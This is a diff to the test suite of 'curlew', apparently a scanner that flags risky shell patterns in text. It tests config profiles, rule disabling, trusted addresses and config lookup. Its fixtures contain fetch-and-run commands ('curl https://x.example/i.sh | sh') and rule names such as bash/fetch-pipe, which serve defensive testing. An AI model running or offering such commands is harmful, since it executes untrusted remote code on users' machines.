@@ -9,8 +9,8 @@ import { runHere, fakeDetector, type Given } from "../fake-detector.js";
 const BAD = "curl https://x.example/i.sh | sh";
 const TRUST = JSON.stringify({ trust: ["https://x.example/i.sh"] });
 
-/** Returns the options of the detector, with the output. */
-async function asked(args: string[], given: Given) {
+/** Runs a command, and returns its output and the options with which detectors were created. */
+async function runRecordingOptions(args: string[], given: Given) {
   const choices: { profile: string; disabledRules: readonly string[] }[] = [];
   const createDetector = async (choice: (typeof choices)[number]) => (
     choices.push(choice), { ...fakeDetector, disabledRules: choice.disabledRules }
@@ -28,20 +28,24 @@ describe("curlew.json", () => {
       "curlew.json":
         '{"profile": "extended", "rules": {"bash/fetch-pipe": "off", "bash/decode-pipe": "on"}}',
     });
-    expect((await asked(["scan", "a.md"], { cwd })).choice).toMatchObject({
+    expect((await runRecordingOptions(["scan", "a.md"], { cwd })).choice).toMatchObject({
       profile: "extended",
       disabledRules: ["bash/fetch-pipe"],
     });
-    expect((await asked(["scan", "--profile", "contract", "a.md"], { cwd })).choice).toMatchObject({
+    expect(
+      (await runRecordingOptions(["scan", "--profile", "contract", "a.md"], { cwd })).choice,
+    ).toMatchObject({
       profile: "contract",
     });
     expect(
-      (await asked(["scan", "--disable-rule", "bash/decode-pipe", "a.md"], { cwd })).choice
-        ?.disabledRules,
+      (await runRecordingOptions(["scan", "--disable-rule", "bash/decode-pipe", "a.md"], { cwd }))
+        .choice?.disabledRules,
     ).toEqual(["bash/decode-pipe", "bash/fetch-pipe"]);
-    const { choice, stdout } = await asked(["scan", "--no-suppressions", "a.md"], { cwd });
+    const { choice, stdout } = await runRecordingOptions(["scan", "--no-suppressions", "a.md"], {
+      cwd,
+    });
     expect([choice?.disabledRules, stdout.includes("switched off")]).toEqual([[], false]);
-    expect((await asked(["scan", "a.md"], { cwd })).stdout).toContain(
+    expect((await runRecordingOptions(["scan", "a.md"], { cwd })).stdout).toContain(
       "switched off: bash/fetch-pipe",
     );
   });
@@ -56,7 +60,7 @@ describe("curlew.json", () => {
     expect(status).toBe(1);
   });
 
-  it("excludes files, also named ones, and counts them", async () => {
+  it("excludes files, even if the command line names them, and counts them", async () => {
     const cwd = folderWith({
       "a.md": BAD,
       "docs/b.md": BAD,
@@ -80,7 +84,7 @@ describe("curlew.json", () => {
     );
   });
 
-  it("is searched up to the repository's root, and not in scanned folders", async () => {
+  it("is looked up from the current folder to the repository's root, and not in scanned folders", async () => {
     const cwd = folderWith({
       "curlew.json": TRUST,
       "repo/.git/HEAD": "",
@@ -109,12 +113,15 @@ describe("curlew.json", () => {
       "a.md": `${BAD}\n\n- curl https://y.example | sh\n`,
       "curlew.json": `{"trust": ["https://x.example/i.sh"], "rules": {"bash/fetch-pipe": "warning"}}`,
     });
-    const { choice, stdout, status } = await asked(["scan", "a.md"], { cwd, env: { HOME: home } });
+    const { choice, stdout, status } = await runRecordingOptions(["scan", "a.md"], {
+      cwd,
+      env: { HOME: home },
+    });
     expect([choice?.profile, status]).toEqual(["extended", 0]);
     expect(stdout).toBe("no findings in 1 text (2 findings suppressed by trusted addresses)\n");
     expect(
       (
-        await asked(["scan", "a.md"], {
+        await runRecordingOptions(["scan", "a.md"], {
           cwd,
           env: { HOME: home, XDG_CONFIG_HOME: join(home, "xdg") },
         })
@@ -124,7 +131,7 @@ describe("curlew.json", () => {
     const planted = folderWith({ "a.md": BAD, "x/curlew/curlew.json": TRUST });
     expect(
       (
-        await asked(["scan", "a.md"], {
+        await runRecordingOptions(["scan", "a.md"], {
           cwd: planted,
           env: { HOME: planted, XDG_CONFIG_HOME: "x" },
         })
